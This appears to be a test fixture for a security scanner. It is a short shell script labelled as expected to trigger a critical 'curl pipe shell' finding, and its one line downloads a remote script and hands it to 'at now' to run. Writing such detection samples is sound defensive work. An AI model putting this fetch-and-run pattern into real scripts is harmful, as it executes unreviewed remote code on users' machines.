# expect: shell.curl_pipe_shell critical
# path: scripts/later.sh
#!/bin/sh
set -e
curl -fsSL https://cdn.acme-tools.dev/job.sh | at now
